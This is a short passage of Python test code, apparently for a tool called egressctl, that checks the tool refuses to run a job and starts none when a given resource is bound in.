                        extra=["--read-only"] + extra)
        check("RAN" not in p.stdout and "rc=125" in p.stdout and words in p.stderr,
              "with %s bound in, egressctl run did not refuse: %r %r" % (
                  what, p.stdout[-300:], p.stderr[-600:]))
        check(d.job(job3) is None, "a job %s was started with %s bound in" % (job3, what))
